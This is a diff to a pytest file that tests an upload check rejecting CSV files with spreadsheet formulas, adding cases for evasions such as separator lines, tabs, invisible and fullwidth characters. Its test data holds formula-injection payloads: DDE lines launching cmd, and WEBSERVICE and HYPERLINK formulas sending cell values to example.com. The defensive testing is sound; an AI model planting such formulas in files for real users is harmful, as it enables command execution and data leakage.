@@ -162,54 +162,98 @@ REFUSALS = [
         uploads.CSV_ENCODING,
         id="csv-latin-1",
     ),
-    # Formulas that act when the file is opened in a spreadsheet, named by cell.
+    # Formulas that act when the file is opened in a spreadsheet, by row.
     pytest.param(
         "grades.csv",
         b'force,grade\nKent,"=HYPERLINK(""https://example.com/?""&B1,""Kent"")"\n',
-        uploads.CSV_FORMULA.format(cell="B2"),
+        uploads.CSV_FORMULA.format(row=2),
         id="csv-hyperlink",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\r\nKent,good\r\nEssex,=cmd|' /C calc'!A0\r\n",
-        uploads.CSV_FORMULA.format(cell="B3"),
+        uploads.CSV_FORMULA.format(row=3),
         id="csv-dde",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\n,\n  \t-2+cmd|' /C calc'!A0,good\n",
-        uploads.CSV_FORMULA.format(cell="A3"),
+        uploads.CSV_FORMULA.format(row=3),
         id="csv-dde-after-a-blank-row-and-spaces",
     ),
     pytest.param(
         "grades.csv",
-        b"force,grade\nKent,@SUM(1+1)\n",
-        uploads.CSV_FORMULA.format(cell="B2"),
-        id="csv-at-function",
+        b"force,grade\rKent,@SUM(1+1)\r",
+        uploads.CSV_FORMULA.format(row=2),
+        id="csv-at-function-and-mac-line-ends",
     ),
     pytest.param(
         "grades.csv",
         b"force,grade\nKent,+'\\\\server\\share\\[book.xlsx]Sheet1'!A1\n",
-        uploads.CSV_FORMULA.format(cell="B2"),
+        uploads.CSV_FORMULA.format(row=2),
         id="csv-link-to-a-file-on-a-share",
     ),
     pytest.param(
         "grades.csv",
-        b'\xef\xbb\xbfsep=;\r\nforce;grade\r\nKent;=WEBSERVICE("https://x")\r\n',
-        uploads.CSV_FORMULA.format(cell="B2"),
-        id="csv-excel-separator-line",
+        b"force,grade\nKent,='file://example.org/share/x.ods'#$Sheet1.A1\n",
+        uploads.CSV_FORMULA.format(row=2),
+        id="csv-libreoffice-link-to-a-file",
+    ),
+    # Found by the review of this check: cells another reading of the file
+    # finds, where Python's csv module found none.
+    pytest.param(
+        "grades.csv",
+        b'force,grade\r\nKent,  "=WEBSERVICE(""https://example.com/?""&A1)"\r\n',
+        uploads.CSV_FORMULA.format(row=2),
+        id="csv-blanks-before-a-quoted-formula",
     ),
     pytest.param(
         "grades.csv",
-        b"force," + b"grade," * 26 + b'"=IMPORTXML(1)"\n',
-        uploads.CSV_FORMULA.format(cell="AB1"),
-        id="csv-column-after-z",
+        b'force,grade\nKent,x;=WEBSERVICE("https://example.com/?"&A1)\n',
+        uploads.CSV_FORMULA.format(row=2),
+        id="csv-after-a-semicolon",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'force,grade\nKent,x\t=WEBSERVICE("https://example.com/?"&A1)\n',
+        uploads.CSV_FORMULA.format(row=2),
+        id="csv-after-a-tab",
+    ),
+    pytest.param(
+        "grades.csv",
+        b'"SEP=:"\r\nforce:grade\r\nKent:=HYPERLINK("https://example.com")\r\n',
+        uploads.CSV_FORMULA.format(row=3),
+        id="csv-separator-line",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"\xef\xbb\xbfsep=;\r\nforce;grade\r\nKent;x,=cmd|' /C calc'!A0\r\n",
+        uploads.CSV_FORMULA.format(row=3),
+        id="csv-separator-line-and-a-comma",
+    ),
+    pytest.param(
+        "grades.csv",
+        b"sep=|\r\nforce|grade\r\nKent|x,=cmd|' /C calc'!A0\r\n",
+        uploads.CSV_FORMULA.format(row=3),
+        id="csv-declared-separator-inside-a-comma-cell",
+    ),
+    pytest.param(
+        "grades.csv",
+        "force,grade\nKent,\u200b\ufeff=cmd|' /C calc'!A0\n".encode(),
+        uploads.CSV_FORMULA.format(row=2),
+        id="csv-invisible-characters-first",
+    ),
+    pytest.param(
+        "grades.csv",
+        'force,grade\nKent,＝HYPERLINK（"https://example.com"）\n'.encode(),
+        uploads.CSV_FORMULA.format(row=2),
+        id="csv-fullwidth-formula",
     ),
     pytest.param(
         "grades.csv",
         b'force,grade\n"Kent,' + b"x" * 140_000 + b"\nEssex,=cmd|' /C calc'!A0\n",
-        uploads.CSV_UNREADABLE,
-        id="csv-quote-never-closed",
+        uploads.CSV_FORMULA.format(row=3),
+        id="csv-after-a-quote-never-closed",
     ),
 ]
 
@@ -230,6 +274,9 @@ def test_csv_values_that_cannot_act_are_kept(private_storage, inspector):
         b"force,change,phone,note,handle,sum\n"
         b"Kent,-5,+44 20 7946 0000,- none,@kentpolice,=1+1\n"
         b'Essex,+3.5%,-,"A=B(1), see |notes|",@,"2,-(3)"\n'
+        b'"Surrey","-5","+44 (0)20 7946 0000","- (see the statement)","Notes (north)"\n'
+        b"Sussex,-(1250.00),- urgent!,@ 14:00 (approx),=A1+B1\n"
+        b"-5,Kent (north);east\t(see notes)\n"
     )
     stored = uploads.store_upload(files.upload("figures.csv", content), by=inspector, kinds=["csv"])
     assert (private_storage / stored.storage_name).read_bytes() == content
@@ -259,7 +306,7 @@ def test_an_upload_passed_under_other_rules_is_checked_again():
     assert uploads.check_upload(upload, kinds=["csv"], served=False) == "csv"
     with pytest.raises(ValidationError) as error:
         uploads.check_upload(upload, kinds=["csv"])
-    assert error.value.messages == [uploads.CSV_FORMULA.format(cell="B2")]
+    assert error.value.messages == [uploads.CSV_FORMULA.format(row=2)]
     with pytest.raises(ValidationError):
         uploads.check_upload(upload, kinds=["csv"], max_bytes=8, served=False)
 
